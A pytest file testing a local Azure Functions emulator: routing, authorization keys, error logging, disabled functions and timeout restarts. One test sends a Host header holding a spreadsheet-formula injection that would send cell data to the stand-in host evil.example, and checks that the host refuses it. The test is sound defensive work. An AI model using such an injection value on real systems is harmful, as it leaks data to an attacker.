import time

import pytest

from devkit.local_host.process import Reply
from tests.local_host.sample_host import SAMPLE, Sample, run_sample, wait_for_log, write_app


def test_a_request_reaches_the_function_whole(sample: Sample) -> None:
    """Header names in lower case, repeated headers and parameters joined, the body as the bytes that came."""
    reply = sample.host.call(
        "POST",
        "/api/echo/a/b%20c?x=1&y=%C3%BC&x=2",
        headers={"X-Trace": "T", "Content-Type": "application/octet-stream"},
        body=b"\x00\xff[",
    )

    seen = reply.json()
    assert seen["method"] == "POST"
    assert seen["url"] == f"{sample.host.url}/api/echo/a/b%20c?x=1&y=%C3%BC&x=2"
    assert seen["params"] == {"rest": "a/b c"}
    assert seen["query"] == {"x": "1,2", "y": "ü"}
    assert seen["headers"]["x-trace"] == "T"
    assert seen["headers"]["content-type"] == "application/octet-stream"
    assert bytes(seen["body"]) == b"\x00\xff["


def test_a_response_reaches_the_caller_whole(sample: Sample) -> None:
    """Status, headers, each cookie in a header of its own."""
    reply = sample.host.call("GET", "/api/echo/")

    assert reply.status == 200
    assert reply.headers["x-sample"] == "yes"
    assert reply.headers["content-type"] == "application/json"
    assert reply.headers["set-cookie"].split("\n") == ["a=1; HttpOnly; Path=/", "b=2; Secure"]


@pytest.mark.parametrize(
    ("path", "body"),
    [("/api/runs/abc", "by name abc"), ("/api/runs/12", "by number 12"), ("/API/Runs/12", "by number 12")],
)
def test_routes_lead_to_functions(sample: Sample, path: str, body: str) -> None:
    """By their constraints, without case; a function that returns text answers 200."""
    assert sample.host.call("GET", path)[::2] == (200, body.encode())


@pytest.mark.parametrize(
    ("method", "path", "status"),
    [
        ("GET", "/api/nothing", 404),
        ("GET", "/jobs/x", 404),
        ("GET", "/", 404),
        ("GET", "/api/runs/a-b", 404),
        ("DELETE", "/api/jobs/x", 404),
        ("HEAD", "/api/jobs/x", 200),
        ("HEAD", "/api/plans/x/apply", 405),
    ],
)
def test_what_leads_nowhere(sample: Sample, method: str, path: str, status: int) -> None:
    """A wrong method is 404, as the host answers it; HEAD goes where GET goes, and is 405 elsewhere."""
    assert sample.host.call(method, path).status == status


def test_a_host_that_is_none(sample: Sample) -> None:
    """Is refused before any function sees it."""
    assert sample.host.call("GET", "/api/echo/", headers={"Host": '=x("http://evil.example/?x="&A1)'}).status == 400


def test_a_key_that_is_no_text(sample: Sample) -> None:
    """Opens nothing, and breaks nothing."""
    for path in ("/api/secret", "/admin/functions"):
        reply = sample.host.call("GET", path, headers={"x-functions-key": "\xff\xfe"}, key=None)
        assert reply.status == 401


def test_a_wrong_method_is_explained_in_the_log(sample: Sample) -> None:
    """404 alone would send people looking for the route."""
    sample.host.call("PATCH", "/api/jobs/x")

    assert "PATCH /api/jobs/x: no function takes this method here, only GET" in sample.host.log


@pytest.mark.parametrize(
    ("method", "path", "keys"),
    [
        ("GET", "/api/jobs/x", {"reader", "operator", "master"}),
        ("PUT", "/api/jobs/one?kind=none", {"operator", "master"}),
        ("POST", "/api/plans/x/apply", {"approver", "master"}),
        ("GET", "/api/secret", {"master"}),
        ("GET", "/api/echo/", {None, "reader", "operator", "approver", "master"}),
        ("GET", "/admin/functions", {"master"}),
        ("GET", "/admin/host/status", {"master"}),
    ],
)
def test_who_may_call_what(sample: Sample, method: str, path: str, keys: set[str | None]) -> None:
    """Without a right key it is 401, and the function is not called."""
    every = (None, "reader", "operator", "approver", "master")
    replies = {key: sample.host.call(method, path, key=key) for key in every}

    assert {key for key, reply in replies.items() if reply.status < 300} == keys
    assert {reply.status for key, reply in replies.items() if key not in keys} <= {401}


def test_the_key_may_stand_in_the_query(sample: Sample) -> None:
    """The header wins over it."""
    right = f"/api/jobs/x?code={sample.host.keys.reader}"

    assert sample.host.call("GET", right, key=None).status == 200
    assert sample.host.call("GET", right, headers={"x-functions-key": "wrong"}).status == 401


@pytest.mark.parametrize(
    ("how", "reason"),
    [
        ("raise", r"LookupError('broken on purpose') (function_app.py:"),
        ("exit", "sys.exit(4) was called; in Azure the worker process would end here"),
        ("header", "Header values must not contain newline characters."),
    ],
)
def test_a_function_that_raises_is_a_500(sample: Sample, how: str, reason: str) -> None:
    """The caller learns nothing, the log has the reason in one line; the host goes on."""
    reply = sample.host.call("GET", f"/api/broken?how={how}")

    assert reply[::2] == (500, b"")
    (line,) = [line for line in sample.host.log.splitlines() if reason in line]
    assert " ERROR " in line
    assert "[broken " in line


def test_what_a_function_logs_names_the_function(sample: Sample) -> None:
    """Level, logger, function and invocation; line breaks do not make more lines."""
    sample.host.call("GET", "/api/broken")

    line = next(line for line in sample.host.log.splitlines() if "about to break" in line)
    when, level, name, function, invocation, text = line.split(" ", 5)
    assert when.endswith("Z")
    assert (level, name, function, text) == ("INFO", "sample", "[broken", "about to break | in two lines")
    assert len(invocation) == 9


def test_a_disabled_function_is_not_there(tmp_path_factory: pytest.TempPathFactory) -> None:
    """404, except for the master key."""
    settings = {"AzureWebJobs.read_job.Disabled": "true", "AzureWebJobs_echo_Disabled": "true"}

    with run_sample(tmp_path_factory.mktemp("disabled"), settings=settings) as sample:
        assert sample.host.call("GET", "/api/jobs/x").status == 404
        assert sample.host.call("GET", "/api/echo/", key=None).status == 404
        assert sample.host.call("GET", "/api/jobs/x", key="master").status == 200


def test_a_function_that_takes_too_long_costs_the_process(tmp_path_factory: pytest.TempPathFactory) -> None:
    """After functionTimeout everything starts anew on the same port, as the worker process does in Azure."""
    folder = tmp_path_factory.mktemp("timeout")
    app = write_app(
        folder / "app",
        (SAMPLE / "function_app.py").read_text(),
        '{"version": "2.0", "functionTimeout": "00:00:01", "extensions": {"queues": {"batchSize": 1}}}',
    )
    with run_sample(folder, app=app) as sample:
        sample.host.call("POST", "/api/jobs", ["sleep 1.5"])
        wait_for_log(sample.host, "Function 'work' has run for longer than the functionTimeout of 1 s")
        (first, second) = sample.journal.wait("work", 2)

        assert (first["dequeue_count"], second["dequeue_count"]) == (1, 2)
        assert _soon(sample, "/api/echo/").status == 200


def _soon(sample: Sample, path: str) -> Reply:
    for _ in range(200):
        try:
            return sample.host.call("GET", path)
        except ConnectionError:
            time.sleep(0.02)
    raise AssertionError("the host did not come back")
